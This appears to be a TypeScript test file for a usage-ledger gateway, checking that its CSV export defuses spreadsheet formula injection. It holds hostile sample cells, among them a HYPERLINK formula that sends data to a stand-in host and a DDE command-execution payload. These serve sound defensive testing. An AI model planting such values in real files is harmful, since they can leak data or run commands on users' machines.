import { describe, expect, it } from "vitest";
import type { UsageEvent } from "../../src/ledger/event";
import { gw, newTeamKey } from "./helpers";
import { ledgerOf } from "./ledger-helpers";

function ev(team: string, i: number, over: Partial<UsageEvent>): UsageEvent {
  return {
    id: `gen-csv-${team}-${i}`, team, key_id: "k_csv", user: null, model_requested: "m/x", model: "m/x", provider: "m", status: "ok",
    streamed: false, cancelled: false, estimated: false, prompt_tokens: 10, completion_tokens: 5, cached_tokens: 0, cache_write_tokens: 0,
    reasoning_tokens: 0, cost: 1_000_000 + i, ttfb_ms: 1, latency_ms: 2, created_at: Date.now(), attempts: [], ...over,
  };
}

/** RFC 4180 rows: quoted cells may hold commas, newlines and doubled quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") row.push(cell), (cell = "");
    else if (ch === "\n") row.push(cell), rows.push(row), (row = []), (cell = "");
    else cell += ch;
  }
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}

describe("usage export as CSV", () => {
  it("neutralises cells a spreadsheet would run as a formula; numbers stay numbers", async () => {
    const k = await newTeamKey();
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"];
    await ledgerOf(k.team).record([
      ...hostile.map((user, i) => ev(k.team, i, { user })),
      ev(k.team, 9, { model: "-m/minus", model_requested: "=m/eq", provider: "@p", user: "plain" }),
    ]);
    const csv = await (await gw("/v1/usage/export?format=csv", { key: k.key })).text();
    const [header, ...parsed] = parseCsv(csv) as [string[], ...string[][]];
    expect(parsed).toHaveLength(7);
    const col = (name: string) => header.indexOf(name);
    for (const [i, user] of hostile.entries()) expect(parsed[i]![col("user")]).toBe(`'${user}`);
    const last = parsed[6]!;
    expect(last[col("model")]).toBe("'-m/minus");
    expect(last[col("model_requested")]).toBe("'=m/eq");
    expect(last[col("provider")]).toBe("'@p");
    expect(last[col("user")]).toBe("plain");
    // No cell of any row starts a formula.
    for (const r of parsed) for (const c of r) expect(c, c).not.toMatch(/^[=+\-@\t\r]/);
    // Numbers are written as numbers.
    expect(last[col("seq")]).toBe("7");
    expect(last[col("prompt_tokens")]).toBe("10");
    expect(last[col("cost_exact")]).toBe("0.000001000009");
  });
});
